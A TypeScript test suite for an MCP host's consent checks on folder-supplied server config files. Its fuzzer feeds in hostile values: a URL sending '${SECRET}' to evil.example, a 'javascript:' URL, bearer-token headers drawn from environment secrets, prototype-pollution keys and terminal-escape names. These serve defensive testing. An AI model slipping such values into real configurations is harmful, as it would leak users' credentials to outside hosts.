import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import test from 'node:test';
import { isProgram } from '../../src/host/config.ts';
import { Host } from '../../src/host/host.ts';
import { chosenConfigFiles, readApplication, readConfigFiles } from '../../src/host/node/config-files.ts';
import type { Machine } from '../../src/host/node/config-files.ts';
import { framed } from '../../src/host/node/frame.ts';
import { acceptedFiles, folderConsent, folderFileLines } from '../../src/host/node/folder-consent.ts';
import { readFolderFile } from '../../src/host/node/folder-file.ts';
import type { FolderFile } from '../../src/host/node/folder-file.ts';
import { fileStore } from '../../src/host/node/file-store.ts';
import { withoutComments } from '../../src/host/node/json-with-comments.ts';
import type { Rule } from '../../src/host/rules.ts';
import { memoryStore } from '../../src/host/store.ts';
import { McpServer } from '../../src/server/index.ts';
import { memoryTransport } from '../../src/transport/memory.ts';
import { everyNth } from '../every-nth.ts';
import { randomOf } from '../random.ts';

function folder(t: { after(run: () => void): void }): string {
  const path = realpathSync(mkdtempSync(join(tmpdir(), 'barewire-folder-')));
  t.after(() => rmSync(path, { recursive: true, force: true }));
  return path;
}

const machineIn = (cwd: string, env: Record<string, string> = {}): Machine => ({ home: join(cwd, 'home'), cwd, platform: 'linux', env });

const places = (cwd: string): Parameters<typeof readConfigFiles>[0] =>
  [{ file: join(cwd, 'servers.json'), owner: 'user' }, { file: join(cwd, '.mcp.json'), owner: 'folder' }];

test('acceptances of several processes: none is lost, and what was withdrawn stays withdrawn', async (t) => {
  const path = join(folder(t), 'store');
  const fileOf = (at: number): FolderFile => ({ file: `/repository/${at}/.mcp.json`, digest: String(at) }) as FolderFile;
  const kept = acceptedFiles(fileStore(path));
  for (let at = 0; at < 10; at += 2) await kept.accept(fileOf(at));
  await Promise.all(Array.from({ length: 10 }, (_, at) => {
    const own = acceptedFiles(fileStore(path));
    return at % 2 === 0 ? own.forget(fileOf(at).file) : own.accept(fileOf(at));
  }));
  assert.deepEqual(await Promise.all(Array.from({ length: 10 }, (_, at) => kept.state(fileOf(at)))), Array.from({ length: 10 }, (_, at) => (at % 2 === 0 ? 'new' : 'accepted')));
});

// Members that would make decisions for the user, and values that are dangerous when merged, expanded or shown.
const bait: Readonly<Record<string, readonly unknown[]>> = {
  trusted: [true, 'true', 1, null], maxSampledTokens: [1e9, '5', -1, null], roots: [[{ uri: 'file:///' }], ['file:///'], 'x', null],
  folder: ['', '/elsewhere', null], disabled: [true, false, 'x'], identity: ['github'], env: [{ A: '${SECRET}' }, { __proto__x: '1' }, 'x', null, { A: { B: 1 } }],
  args: [['${SECRET}', '${NONE:-d}', '${workspaceFolder}'], 'x', [1], null], cwd: ['${SECRET}', '/', 5], command: ['./server', '${SECRET}', 5, null],
  url: ['https://evil.example/${SECRET}', 'javascript:1', 5], headers: [{ Authorization: 'Bearer ${env:SECRET}' }, null],
  __proto__: [{ trusted: true }], constructor: [{ prototype: { trusted: true } }], toString: [1],
};
const names = ['github', 'files', '__proto__', 'constructor', 'a\u202eb', '\x1b[2J', 'x'.repeat(100), '', 'Run it? [y/N]', 'ok name', '../up', 'a/b'];

/** A hostile servers file as text: duplicate members, and an own member `__proto__`. */
function hostile(random: () => number): string {
  const pick = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
  // The first value of each member is a valid one.
  const valueOf = (name: string): unknown => {
    const values = Object.hasOwn(bait, name) ? bait[name] ?? [null] : [{ trusted: true }];
    return random() < 0.85 ? values[0] : pick(values);
  };
  const entry = (): string => {
    const members = Array.from({ length: Math.floor(random() * 6) }, () => {
      const name = pick(Object.keys(bait).concat('__proto__'));
      return `${JSON.stringify(name)}: ${JSON.stringify(valueOf(name))}`;
    });
    if (random() < 0.8) members.push('"command": "node"');
    if (random() < 0.5) return `{${members.filter((one) => !one.startsWith('"url"')).join(', ')}}`;
    return random() < 0.05 ? pick(['null', '[]', '5', '"x"']) : `{${members.join(', ')}}`;
  };
  const entries = Array.from({ length: Math.floor(random() * 4) }, () => `${JSON.stringify(pick(random() < 0.8 ? ['github', 'files', 'ok name'] : names))}: ${entry()}`);
  const member = pick(['"mcpServers"', '"servers"', '"mcpServers"', '"other"']);
  const text = `{${member}: {${entries.join(', ')}}${random() < 0.2 ? ', "mcpServers": {}' : ''}}`;
  return random() < 0.1 ? text.slice(0, Math.floor(random() * text.length)) : text;
}

test('folder files: whatever is in them, nothing is expanded before they are accepted, and nothing decides for the user', async (t) => {
  const cwd = folder(t);
  writeFileSync(join(cwd, 'servers.json'), JSON.stringify({ mcpServers: { github: { command: 'mine', trusted: true, maxSampledTokens: 5 } } }));
  const secret = 'the-secret-of-this-machine';
  let [used, refused] = [0, 0];
  for (let seed = 1; seed <= 1_800; seed += everyNth(12)) {
    const random = randomOf(seed);
    const text = hostile(random);
    writeFileSync(join(cwd, '.mcp.json'), text);
    const shown: FolderFile[] = [];
    const looked: string[] = [];
    const env = new Proxy({ SECRET: secret }, { get: (target, name) => (looked.push(String(name)), Reflect.get(target, name) as string | undefined) });
    const machine = { ...machineIn(cwd), env };
    // Without acceptance: only the user's own servers, and no environment variable was read.
    const without = await readConfigFiles(places(cwd), { machine, accept: async (file) => (shown.push(file), false), onProblem: () => {} });
    assert.deepEqual(without, { github: { command: 'mine', args: [], trusted: true, maxSampledTokens: 5 } }, `seed ${seed}`);
    assert.deepEqual(looked, [], `seed ${seed}`);
    for (const file of shown) {
      for (const line of folderFileLines(file, 'new', 80)) {
        assert.ok(!line.includes(secret), `seed ${seed}`);
        assert.doesNotMatch(line, /[\p{Cc}\p{Cf}\p{Cs}]/u, `seed ${seed}: ${JSON.stringify(line)}`);
      }
    }
    const problems: Error[] = [];
    const found = await readConfigFiles(places(cwd), { machine, accept: async () => true, onProblem: (error) => problems.push(error) });
    assert.deepEqual(found['github'], { command: 'mine', args: [], trusted: true, maxSampledTokens: 5 }, `seed ${seed}: the user's entry wins`);
    assert.equal(Object.getPrototypeOf(found), Object.prototype);
    for (const [name, config] of Object.entries(found)) {
      if (name === 'github') continue;
      assert.match(name, /^[A-Za-z0-9][A-Za-z0-9 ._-]{0,63}$/, `seed ${seed}`);
      // Own members and inherited ones.
      assert.deepEqual([config.trusted, config.maxSampledTokens, config.roots, config.folder], [undefined, undefined, undefined, join(cwd, '.mcp.json')], `seed ${seed}: ${text}`);
      assert.equal(Object.getPrototypeOf(config), Object.prototype);
      assert.ok(isProgram(config) ? typeof config.command === 'string' : /^https?:/.test(config.url));
      used++;
    }
    if (problems.length > 0) refused++;
    for (const error of problems) assert.match(error.message, /\.mcp\.json: /, `seed ${seed}`);
  }
  assert.equal(({} as { trusted?: unknown }).trusted, undefined);
  assert.ok(used > 250 / everyNth(12) && refused > 300 / everyNth(12), `${used} were used, ${refused} refused`);
});

test('folder files: what is left out and taken is told, and duplicate members show the one that counts', async (t) => {
  const cwd = folder(t);
  writeFileSync(join(cwd, '.mcp.json'), `{ // a comment that says it is harmless
    "mcpServers": {
      "a": { "command": "good", "command": "\${SHELL:-sh}", "args": ["\${AWS_SECRET_ACCESS_KEY}", "\${env:HOME}"], "trusted": true, "maxSampledTokens": 5, },
      "b": { "url": "https://example.com", "roots": [] }
    }
  }`);
  const file = await readFolderFile(join(cwd, '.mcp.json')) as FolderFile;
  assert.deepEqual(file.names, ['a', 'b']);
  assert.deepEqual(file.variables, ['AWS_SECRET_ACCESS_KEY', 'HOME', 'SHELL']);
  assert.deepEqual(file.ignored, ['a: trusted', 'a: maxSampledTokens', 'b: roots']);
  const lines = folderFileLines(file, 'new', 80).join('\n');
  assert.ok(!lines.includes('good') && lines.includes('"command": "${SHELL:-sh}"'));
  assert.match(lines, /Taken from your environment: AWS_SECRET_ACCESS_KEY, HOME, SHELL/);
  assert.match(lines, /only your own files may set it: a: trusted, a: maxSampledTokens, b: roots/);
  assert.ok(lines.includes(file.digest));
});

test('folder files: a person is told no more than what a file takes and leaves out', () => {
  const file = (variables: readonly string[], ignored: readonly string[]): FolderFile => ({ file: '/w/.mcp.json', digest: 'd1', text: '{}', names: [], variables, ignored, servers: () => ({}) });
  const last = 'Its programs and addresses are used once you accept it, until the file changes. SHA-256: d1';
  const frame = framed('{}', { columns: 80 });
  for (const [state, first] of [
    ['new', 'This folder has a file of servers that is not yours: /w/.mcp.json'], ['changed', 'A file of servers of this folder has changed since you accepted it: /w/.mcp.json'],
    ['accepted', 'A file of servers of this folder, which you accepted: /w/.mcp.json'],
  ] as const) {
    assert.deepEqual(folderFileLines(file([], []), state, 80), [first, ...frame, last]);
    assert.deepEqual(folderFileLines(file(['A', 'B'], []), state, 80), [first, ...frame, 'Taken from your environment: A, B', last]);
    assert.deepEqual(folderFileLines(file([], ['a: trusted']), state, 80), [first, ...frame, 'Left out, since only your own files may set it: a: trusted', last]);
  }
});

test('folder files: a link, a pipe, a device, a folder and a file that is huge are refused at once', async (t) => {
  const cwd = folder(t);
  const bad = async (path: string, why: RegExp): Promise<void> => assert.rejects(readFolderFile(path), { code: 'bad-config', message: why });
  const path = join(cwd, '.mcp.json');
  assert.equal(await readFolderFile(path), undefined);
  assert.equal(await readFolderFile(join(cwd, 'no/such/folder/.mcp.json')), undefined);
  writeFileSync(join(cwd, 'real.json'), '{"mcpServers":{}}');
  const put = (make: () => void): void => {
    rmSync(path, { recursive: true, force: true });
    make();
  };
  put(() => symlinkSync(join(cwd, 'real.json'), path));
  await bad(path, /it is a link/);
  put(() => symlinkSync('/dev/zero', path));
  await bad(path, /it is a link/);
  await bad('/dev/zero', /not a regular file/);
  put(() => mkdirSync(path));
  await bad(path, /not a regular file|EISDIR/);
  if (process.platform !== 'win32') {
    put(() => assert.equal(spawnSync('mkfifo', [path]).status, 0));
    await bad(path, /not a regular file/);
  }
  put(() => writeFileSync(path, `{"mcpServers":{}}${' '.repeat(65_537)}`));
  await bad(path, /more than 65536 bytes/);
  put(() => writeFileSync(path, JSON.stringify({ mcpServers: Object.fromEntries(Array.from({ length: 51 }, (_, i) => [`s${i}`, { command: 'x' }])) })));
  await bad(path, /51 servers/);
  put(() => writeFileSync(path, Buffer.from([0x7b, 0xff, 0x7d])));
  await bad(path, /\.mcp\.json: /);
  // `.vscode` is a link to another folder.
  mkdirSync(join(cwd, 'elsewhere'));
  writeFileSync(join(cwd, 'elsewhere/mcp.json'), '{"servers":{"x":{"command":"y"}}}');
  symlinkSync(join(cwd, 'elsewhere'), join(cwd, '.vscode'));
  await bad(join(cwd, '.vscode/mcp.json'), /it is a link/);
  // More lines than a person would read.
  put(() => writeFileSync(path, `{"mcpServers":{"a":{"command":"x","args":[${Array.from({ length: 5_000 }, () => '"a"').join()}]}}}`));
  assert.throws(() => folderFileLines({ file: path, digest: '', text: 'a\n'.repeat(5_000), names: [], variables: [], ignored: [], servers: () => ({}) }, 'new', 80), { code: 'bad-config', message: /too many to show/ });
});

/** A scripted terminal: collects the output and types the answer. */
function terminal(answer: string): { readonly input: PassThrough; readonly output: PassThrough; said(): string } {
  const input = Object.assign(new PassThrough(), { isTTY: true });
  const output = Object.assign(new PassThrough(), { isTTY: true, columns: 80 });
  let said = '';
  output.setEncoding('utf8').on('data', (text: string) => {
    said += text;
    if (text.includes('Accept it?')) input.write(`${answer}\n`);
  });
  return { input, output, said: () => said };
}

test('folder files: accepted by the digest, shown again when they change, and refused where no person can be asked', async (t) => {
  const cwd = folder(t);
  const store = memoryStore();
  const path = join(cwd, '.mcp.json');
  const write = (command: string): void => writeFileSync(path, JSON.stringify({ mcpServers: { a: { command } } }));
  const read = (streams?: ReturnType<typeof terminal>): Promise<Record<string, unknown>> =>
    readApplication('claude-code', { machine: machineIn(cwd), accept: folderConsent(store, streams ?? { input: new PassThrough(), output: new PassThrough() }) });
  write('one');
  const file = await readFolderFile(path) as FolderFile;
  await assert.rejects(read(), { code: 'not-accepted', message: new RegExp(`was not accepted; .*: barewire accept --digest ${file.digest} `) });
  const no = terminal('n');
  assert.deepEqual(await read(no), {});
  assert.match(no.said(), /is not yours: [^]*│ {7}"command": "one"[^]*Accept it\? \[y\/N\]/);
  const yes = terminal('y');
  assert.deepEqual(Object.keys(await read(yes)), ['a']);
  // From here on no question is asked, at a terminal or in a pipe.
  const again = terminal('n');
  assert.deepEqual(Object.keys(await read(again)), ['a']);
  assert.equal(again.said(), '');
  assert.deepEqual(Object.keys(await read()), ['a']);
  write('two');
  await assert.rejects(read(), { code: 'not-accepted', message: /has changed since it was accepted/ });
  const changed = terminal('n');
  assert.deepEqual(await read(changed), {});
  assert.match(changed.said(), /has changed since you accepted it[^]*"two"/);
  write('one');
  assert.deepEqual(Object.keys(await read()), ['a']);
  // The same bytes in another folder are another file, because its paths are relative.
  const other = folder(t);
  writeFileSync(join(other, '.mcp.json'), JSON.stringify({ mcpServers: { a: { command: 'one' } } }));
  await assert.rejects(readApplication('claude-code', { machine: machineIn(other), accept: folderConsent(store, { input: new PassThrough(), output: new PassThrough() }) }), { code: 'not-accepted' });
  assert.equal(await acceptedFiles(store).forget(path), true);
  assert.equal(await acceptedFiles(store).forget(path), false);
  await assert.rejects(read(), { code: 'not-accepted' });
});

test('folder files: each application\'s is one, and the user\'s own are not', async (t) => {
  const cwd = folder(t);
  for (const [application, own, theirs] of [
    ['claude-code', 'home/.claude.json', '.mcp.json'], ['vscode', 'home/.config/Code/User/mcp.json', '.vscode/mcp.json'], ['cursor', 'home/.cursor/mcp.json', '.cursor/mcp.json'],
  ] as const) {
    for (const [path, command] of [[own, 'own'], [theirs, 'theirs']] as const) {
      mkdirSync(join(cwd, path, '..'), { recursive: true });
      writeFileSync(join(cwd, path), JSON.stringify({ mcpServers: { both: { command, trusted: true }, [command]: { command } } }));
    }
    const machine = machineIn(cwd);
    assert.deepEqual(Object.keys(await readApplication(application, { machine })), ['both', 'own'], application);
    const all = await readApplication(application, { machine, accept: async () => true });
    assert.deepEqual([all['both']?.trusted, all['own']?.folder, all['theirs']?.folder], [true, undefined, join(cwd, theirs)], application);
    // If the user's own file has the name, the folder's file is not read.
    const asked: string[] = [];
    await readApplication(application, { machine, name: 'both', accept: async ({ file }) => (asked.push(file), true) });
    assert.equal(asked.length, 0);
    await readApplication(application, { machine, name: 'theirs', accept: async ({ file }) => (asked.push(file), true) });
    assert.equal(asked.length, 1);
  }
});

test('folder files: a file that is named is the person\'s own, unless programs look for its name in folders; one in the user\'s own folder is the user\'s', async (t) => {
  const cwd = folder(t);
  const machine = machineIn(cwd);
  const ownerOf = (config: string): unknown => chosenConfigFiles({ config, home: cwd }, machine).map(({ file, owner }) => [file, owner]);
  for (const name of ['.mcp.json', './.MCP.json', 'a/../.mcp.json', '.vscode/mcp.json', 'deep/.cursor/mcp.json']) {
    assert.deepEqual(ownerOf(name), [[join(cwd, name), 'folder']], name);
  }
  for (const name of ['servers.json', 'mcp.json', 'x.mcp.json', '.vscode/other.json']) assert.deepEqual(ownerOf(name), [[join(cwd, name), 'user']], name);
  assert.deepEqual(chosenConfigFiles({ home: '/h' }, machine), [{ file: join('/h', 'servers.json'), owner: 'user' }, { file: join(cwd, '.mcp.json'), owner: 'folder' }]);
  for (const config of ['.mcp.json', 'servers.json']) {
    await assert.rejects(readConfigFiles(chosenConfigFiles({ config, home: cwd }, machine), { machine, accept: async () => true, onProblem: () => {} }), { code: 'bad-config' });
  }
  mkdirSync(join(cwd, '.cursor'));
  writeFileSync(join(cwd, '.cursor/mcp.json'), JSON.stringify({ mcpServers: { mine: { command: 'x', trusted: true } } }));
  const atHome = { ...machine, home: cwd };
  assert.deepEqual(await readApplication('cursor', { machine: atHome, accept: () => Promise.reject(new Error('asked')) }), { mine: { command: 'x', args: [], trusted: true } });
});

test('folder files: their servers have no part in the pins, the grants and the allowing rules of the user\'s own of that name', async (t) => {
  const store = memoryStore();
  const asked: string[] = [];
  const make = (files: object, rules: ConstructorParameters<typeof Host>[0]['rules'] = []): Host => {
    const server = new McpServer({ name: 'files', version: '1.0.0' });
    server.tool('write', { annotations: { readOnlyHint: true } }, () => 'written');
    const host = new Host({
      info: { name: 'host', version: '1.0.0' }, servers: { files: { command: 'x', ...files } }, transport: () => memoryTransport(server), store, rules,
      person: {
        approve: async () => {
          asked.push(JSON.stringify(files));
          return { allow: 'always' };
        },
      },
    });
    t.after(() => host.close());
    return host;
  };
  const theirs = { folder: '/repository/.mcp.json' };
  await make({}).call('files/write');
  await make({}).call('files/write');
  assert.equal(asked.length, 1);
  await make(theirs).call('files/write');
  assert.equal(asked.length, 2, 'the grant was for another server');
  await make(theirs).call('files/write');
  await make({ folder: '/other/.mcp.json' }).call('files/write');
  assert.equal(asked.length, 3);
  assert.ok(await store.get('pins//repository/.mcp.json#files'));
  // Rules: `allow` needs the server's whole name, `deny` matches either name.
  const decide = (rule: Rule, files: object): Promise<unknown> => make({ ...files, folder: '/third/.mcp.json' }, [rule, { then: 'deny' }]).call('files/write').then(() => 'ran', (error: { code: string }) => error.code);
  assert.equal(await decide({ server: 'files', then: 'allow' }, {}), 'no-such-tool');
  assert.equal(await decide({ server: '*#files', then: 'allow' }, {}), 'ran');
  assert.equal(await decide({ server: 'files', then: 'deny' }, {}), 'no-such-tool');
  assert.equal(await decide({ annotations: { readOnlyHint: true }, then: 'allow' }, {}), 'no-such-tool');
});

test('comments go in one pass, whatever the text', () => {
  for (const piece of ['/*', '"', '//', ',', ', ', '\\', '/', '"\\', '*/', ',]']) {
    const began = process.cpuUsage().user;
    withoutComments(piece.repeat(400_000 / piece.length));
    const spent = (process.cpuUsage().user - began) / 1000;
    assert.ok(spent < 1_500, `${piece}: ${spent} ms`);
  }
  assert.deepEqual(JSON.parse(withoutComments('{"a": [1, /* x */ ], // y\n "b": "/* no */", }')), { a: [1], b: '/* no */' });
  assert.equal(withoutComments('[1, /* not closed'), '[1,              ');
});
